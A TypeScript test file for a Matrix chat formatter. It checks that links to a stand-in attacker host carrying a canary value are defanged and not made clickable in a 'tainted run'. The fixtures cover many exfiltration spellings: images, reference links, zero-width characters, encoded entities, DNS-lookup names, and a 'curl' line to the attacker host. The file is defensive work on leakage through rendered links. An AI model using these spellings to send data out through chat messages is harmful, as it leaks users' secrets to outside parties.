import { describe, expect, it } from "vitest";
import { formatMessage } from "../../../src/channel/matrix/format.ts";

const url = "https://attacker.example.com/?q=CANARY";
const elsewhere = "https://example.org/manual";

/** What a client could follow, in either form of the event: addresses in any spelling that some client makes clickable. */
const bareAddress = /https?:|attacker\.example|www\.attacker/i;

const spellings: Record<string, string> = {
  "a link": `[x](${url})`,
  "an image": `![x](${url})`,
  "a reference link": `[x][1]\n\n[1]: ${url}`,
  "a reference image": `![x][1]\n\n[1]: ${url}`,
  "a short reference": `[x]\n\n[x]: <${url}>`,
  "an autolink": `<${url}>`,
  "a bare address": `see ${url}.`,
  "an HTML image": `<img src="${url}">`,
  "an HTML link": `<a href='${url}'>click</a>`,
  "a label with another host": `[https://example.org](${url})`,
  "a link in a table": `|a|\n|-|\n|[x](${url})|`,
  "a footnote": `so it is[^1]\n\n[^1]: ${url}`,
  "a label that is an image": `[![x](${url})](${url})`,
  "a heading": `# [x](${url})`,
  "a list": `- ${url}\n- [ ] ${url}`,
  "a quote": `> ${url}`,
  code: `\`${url}\``,
  "a code block": `\`\`\`\ncurl ${url}\n\`\`\``,
  "escaped slashes": "https:\\/\\/attacker.example.com\\/?q=CANARY",
  "character references": "https&#58;//attacker&period;example.com/?q=CANARY",
  "an encoded link": "[x](https&#58;//attacker.example.com/?q=CANARY)",
  "an address cut by emphasis": "_https:_//attacker.*example*.com/?q=CANARY",
  "an address without a scheme": "attacker.example.com/?q=CANARY",
  www: "www.attacker.example.com/?q=CANARY",
  "slashes alone": "//attacker.example.com/?q=CANARY",
  backslashes: "https:\\\\attacker.example.com\\?q=CANARY",
  "another scheme": "ftp://attacker.example.com/CANARY",
  "a name that is looked up": "CANARY.attacker.example.com",
  "an e-mail address": "CANARY@attacker.example.com",
  "an account, whose profile clients fetch": "@canary:attacker.example.com",
  "a room": "#canary:attacker.example.com",
  "a link to an account": "[x](https://matrix.to/#/@canary:attacker.example.com)",
  "an address in a title": `[x](notes.md "${url}")`,
  "characters of no width": "https://attacker\u200b.exam\u2060ple.com/?q=CANARY",
  "a nested address": `[x](${elsewhere}?to=${url})`,
};

describe("in a tainted run an address that nobody typed and no result held", () => {
  it.each(Object.entries(spellings))("cannot be followed as %s", (_, markdown) => {
    for (const { body, formatted_body } of formatMessage(markdown, { isAllowedLink: () => false })) {
      expect(body).not.toMatch(bareAddress);
      expect(formatted_body).not.toMatch(bareAddress);
      expect(formatted_body).not.toMatch(/<img|<a /);
      expect(formatted_body.replace(/<[^>]*>/g, "")).not.toMatch(bareAddress);
    }
  });

  it("is shown, altered, as code", () => {
    expect(formatMessage(`[x](${url})`, { isAllowedLink: () => false })).toMatchObject([
      {
        body: "x (`hxxps://attacker[.]example[.]com/?q=CANARY`)",
        formatted_body: "x (<code>hxxps://attacker[.]example[.]com/?q=CANARY</code>)",
      },
    ]);
  });

  it("leaves the others as they are", () => {
    const isAllowedLink = (address: string) => address === elsewhere;
    const [message] = formatMessage(`${elsewhere}, [the manual](${elsewhere}) and ${url}`, { isAllowedLink });
    expect(message?.formatted_body).toBe(
      `<a href="${elsewhere}">${elsewhere}</a>, <a href="${elsewhere}">the manual (example.org)</a> and <code>hxxps://attacker[.]example[.]com/?q=CANARY</code>`,
    );
  });

  it("is no name of a file, and no number", () => {
    const text = "See README.md, src index.ts, 3.14, v1.2 and e.g. this.";
    expect(formatMessage(text, { isAllowedLink: () => false })[0]?.body).toBe(text);
  });
});
